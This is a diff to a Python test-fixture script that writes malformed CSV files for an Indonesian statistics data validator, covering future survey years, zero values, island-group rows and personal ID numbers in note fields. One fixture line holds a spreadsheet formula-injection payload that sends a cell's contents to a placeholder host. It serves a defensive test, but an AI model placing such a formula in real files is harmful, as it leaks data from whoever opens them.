@@ -431,7 +431,8 @@ def main() -> None:
     # A poverty round in the future: the report period would become 2015–2099.
     write_csv(BAD / "poverty_round_2099.csv", POV_HEADER, [["11", "Aceh", "2099", "3", "12.10", "690.50", "", "", SRC, ""]])
     case("poverty_round_2099.csv", "poverty_province", ["row 2", "column 'year'", "2099",
-                                                        "a round that has already taken place"])
+                                                        "a round that BPS has already published",
+                                                        "the March 2099 round is published in July 2099"])
     # Text a spreadsheet would execute.
     write_csv(BAD / "formula_in_note.csv", UMP_HEADER,
               [["11", "Aceh", "2027", "3900000", SRC, '=HYPERLINK("http://x.example/?leak="&A1,"SK")'],
@@ -453,6 +454,39 @@ def main() -> None:
               [["Aceh", "2027", "3900000", "pengirim 9971994501900012"]])
     case("implausible_nik_in_note.csv", "ump_province", ["row 2", "column 'note'", "9971…0012",
                                                          "identifier-like number of 16–18 digits"])
+    # Identifiers written right after a label, in slash groups or as a float: still personal data.
+    for fname, note, shown, kind in [("nik_after_label_in_note.csv", "NIK3171994501900012", "3171…0012", "no NIK"),
+                                     ("nik_slash_groups_in_note.csv", "3171/9945/0190/0012", "3171…0012", "no NIK"),
+                                     ("nip_after_label_in_note.csv", "NIP198001012005011001", "1980…1001", "no NIP"),
+                                     ("nip_as_float_in_note.csv", "198001012005011001.0", "1980…1001", "no NIP")]:
+        write_csv(BAD / fname, ["provinsi", "tahun", "ump_rupiah", "catatan"], [["Aceh", "2027", "3900000", note]])
+        case(fname, "ump_province", ["row 2", "column 'note'", shown, kind])
+    # A NIK in the --note text (stored in datapackage.json history) is refused like one in a cell.
+    write_csv(BAD / "nik_in_note_option.csv", UMP_HEADER, UMP_ROWS[:1])
+    case("nik_in_note_option.csv", "ump_province", ["--note", "3171…0012", "no NIK or other personal ID number"],
+         note="NIK3171994501900012")
+    # Zeros are not P0, poor counts or populations (0 is not a BPS "not set" symbol for these tables).
+    write_csv(BAD / "poverty_zero_values.csv", POV_HEADER,
+              [["31", "DKI Jakarta", "2026", "3", "0", "0", "", "", SRC, ""],
+               ["32", "Jawa Barat", "2026", "3", "4.03", "0", "", "", SRC, ""]])
+    case("poverty_zero_values.csv", "poverty_province", ["row 2", "row 3", "column 'p0_percent'",
+                                                         "column 'poor_thousand'", "value 0.0", "a value above 0"],
+         problems=3, command="validate")
+    write_csv(BAD / "population_zero.csv", ["bps_code", "province", "year", "population_thousand", "source_url", "note"],
+              [["33", "Jawa Tengah", "2026", "0", SRC, ""]])
+    case("population_zero.csv", "population_province", ["row 2", "column 'population_thousand'", "value 0.0",
+                                                        "a value above 0"])
+    # An empty UMP with a note saying it was not set: the message says how to record it (the source's 0).
+    write_csv(BAD / "ump_empty_with_not_set_note.csv", ["provinsi", "tahun", "ump_rupiah", "catatan"],
+              [["Jawa Timur", "2027", "", "belum ditetapkan"]])
+    case("ump_empty_with_not_set_note.csv", "ump_province", ["row 2", "ump_rupiah is empty",
+                                                              "write the source's 0 in the cell"])
+    # Only island-group rows: "no data rows" says why every row was skipped.
+    write_csv(BAD / "island_groups_only.csv", UMP_HEADER,
+              [["", "Jawa", "2027", "3000000", SRC, ""], ["", "Sumatera", "2027", "3100000", SRC, ""]])
+    case("island_groups_only.csv", "ump_province", ["no data rows", "skipped as island-group",
+                                                     "row 2: Jawa: island-group aggregate",
+                                                     "row 3: Sumatera: island-group aggregate"])
     # Rows refused for a missing code are not also reported as duplicates of each other.
     write_csv(BAD / "missing_code_not_duplicate.csv", UMP_HEADER,
               [["", "", "2027", "3900000", SRC, ""], ["", "", "2027", "3100000", SRC, ""]])
